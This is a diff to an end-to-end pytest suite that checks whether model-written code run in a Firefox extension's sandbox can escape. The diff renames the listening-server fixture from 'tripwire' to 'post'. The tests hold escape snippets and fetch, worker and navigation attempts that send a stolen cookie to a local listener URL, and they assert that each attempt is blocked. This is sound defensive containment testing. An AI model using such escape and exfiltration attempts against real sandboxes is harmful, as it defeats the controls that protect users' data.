@@ -14,10 +14,10 @@ import json
 
 import pytest
 
+from tests.e2e.red_team import post  # noqa: F401  (a fixture: the listening post)
 from tests.e2e.test_sandbox import ESCAPES
 from tests.helpers.model_server import Reply
 from tests.helpers.page_server import PageServer
-from tests.helpers.tripwire import Tripwire
 
 from .sidebar import ANSWER, CODE_OUTPUTS, configure, open_chat, send, wait_for_status
 
@@ -31,12 +31,6 @@ FIREFOX_ESCAPES = {
     "a_fresh_indexed_db": "import js\njs.self.constructor.prototype.indexedDB.open('loot')",
 }
 ALL_ESCAPES = {**ESCAPES, **FIREFOX_ESCAPES}
-
-
-@pytest.fixture(scope="module")
-def tripwire():
-    with Tripwire() as server:
-        yield server
 
 
 @pytest.fixture(scope="module")
@@ -63,22 +57,22 @@ def without_the_walls_reports(firefox) -> list:
     return [problem for problem in firefox.take_problems() if "Content-Security-Policy:" not in problem]
 
 
-def test_the_tripwire_hears_what_does_leave(firefox, chat, tripwire):
+def test_the_tripwire_hears_what_does_leave(firefox, chat, post):
     """The control: the chat page (an extension page) may fetch, and the tripwire hears it."""
-    assert firefox.evaluate(chat, f"fetch({json.dumps(tripwire.url('control'))}).then((r) => r.status)") == 200
-    assert [hit["path"] for hit in tripwire.hits] == ["/control"]
-    tripwire.hits.clear()
+    assert firefox.evaluate(chat, f"fetch({json.dumps(post.url('control'))}).then((r) => r.status)") == 200
+    assert [hit["path"] for hit in post.hits] == ["/control"]
+    post.hits.clear()
 
 
 @pytest.mark.parametrize("escape", ALL_ESCAPES)
-def test_no_way_out_of_the_models_code(firefox, chat, model, tripwire, escape):
-    code = ALL_ESCAPES[escape].replace("URL", repr(tripwire.url("secret?cookie=stolen"))) + "\nprint('GOT OUT')"
+def test_no_way_out_of_the_models_code(firefox, chat, model, post, escape):
+    code = ALL_ESCAPES[escape].replace("URL", repr(post.url("secret?cookie=stolen"))) + "\nprint('GOT OUT')"
     outputs, answer = code_step(firefox, chat, model, code)
     (output, is_error), *_ = outputs
     assert is_error and "GOT OUT" not in output, outputs
     assert SECRET not in json.dumps(outputs)
     assert answer == "the next step ran"  # the sandbox still works (on the next step's model call, after the attempt)
-    assert tripwire.hits == []
+    assert post.hits == []
     assert without_the_walls_reports(firefox) == []
 
 
@@ -114,7 +108,7 @@ def evaluate_apart(firefox, context: str, expression: str):
     return json.loads(result["result"]["value"])
 
 
-def test_the_sandbox_page_has_an_opaque_origin_no_extension_apis_and_no_storage(firefox, tripwire):
+def test_the_sandbox_page_has_an_opaque_origin_no_extension_apis_and_no_storage(firefox, post):
     page, frame = sandbox_page_frame(firefox)
     found = evaluate_apart(firefox, frame, """(async () => {
         const attempt = async (what) => { try { return `opened: ${await what()}`; } catch (error) { return error.name; } };
@@ -136,12 +130,12 @@ def test_the_sandbox_page_has_an_opaque_origin_no_extension_apis_and_no_storage(
     assert without_the_walls_reports(firefox) == []
 
 
-def test_the_sandbox_pages_own_policy_stops_what_it_would_load_or_send(firefox, tripwire):
+def test_the_sandbox_pages_own_policy_stops_what_it_would_load_or_send(firefox, post):
     """The second wall, tried from the page that hosts the worker, with the platform's own
     fetch, images, scripts, frames, forms and a worker: the page's CSP (a <meta>, added to the
     extension pages' policy, which alone would let it connect) stops each."""
     page, frame = sandbox_page_frame(firefox)
-    url = json.dumps(tripwire.url("secret?cookie=stolen"))
+    url = json.dumps(post.url("secret?cookie=stolen"))
     tried = evaluate_apart(firefox, frame, f"""(async () => {{
         const tried = {{}};
         try {{ await fetch({url}); tried.fetch = "REACHED"; }} catch (error) {{ tried.fetch = error.name; }}
@@ -158,9 +152,9 @@ def test_the_sandbox_pages_own_policy_stops_what_it_would_load_or_send(firefox, 
     }})()""")
     assert tried == {"fetch": "TypeError", "worker": "TypeError", "top": "SecurityError"}, tried
     # The control, sent after every attempt: the only request the tripwire hears.
-    assert firefox.evaluate(page, f"fetch({json.dumps(tripwire.url('control'))}).then((r) => r.status)") == 200
-    assert [hit["path"] for hit in tripwire.hits] == ["/control"]
-    tripwire.hits.clear()
+    assert firefox.evaluate(page, f"fetch({json.dumps(post.url('control'))}).then((r) => r.status)") == 200
+    assert [hit["path"] for hit in post.hits] == ["/control"]
+    post.hits.clear()
     firefox.send("browsingContext.close", {"context": page})
     assert without_the_walls_reports(firefox) == []
 
@@ -191,17 +185,17 @@ def test_a_web_page_may_load_the_sandboxs_scripts_and_nothing_else_of_the_extens
     assert all(" may not load or link to moz-extension://" in problem for problem in refusals), refusals
 
 
-def test_the_sandbox_page_cannot_navigate_itself_off_the_extension(firefox, tripwire):
+def test_the_sandbox_page_cannot_navigate_itself_off_the_extension(firefox, post):
     """Its own location is the one way out a page's CSP does not govern. Firefox does not follow
     it (it says nothing about why): the frame stays the sandbox page, and nothing is heard."""
     page, frame = sandbox_page_frame(firefox)
-    url = json.dumps(tripwire.url("secret?cookie=stolen"))
+    url = json.dumps(post.url("secret?cookie=stolen"))
     firefox.send("script.evaluate", {"expression": f"location.href = {url}", "target": {"context": frame, "sandbox": "probe"},
                                      "awaitPromise": False, "resultOwnership": "none"})
     # The control, sent after the attempt: the only request the tripwire hears.
-    assert firefox.evaluate(page, f"fetch({json.dumps(tripwire.url('control'))}).then((r) => r.status)") == 200
-    assert [hit["path"] for hit in tripwire.hits] == ["/control"]
-    tripwire.hits.clear()
+    assert firefox.evaluate(page, f"fetch({json.dumps(post.url('control'))}).then((r) => r.status)") == 200
+    assert [hit["path"] for hit in post.hits] == ["/control"]
+    post.hits.clear()
     tree = firefox.send("browsingContext.getTree", {"root": page})["contexts"][0]
     assert [child["url"] for child in tree["children"]] == [firefox.url("extension/sandbox/sandbox.html")]
     firefox.send("browsingContext.close", {"context": page})
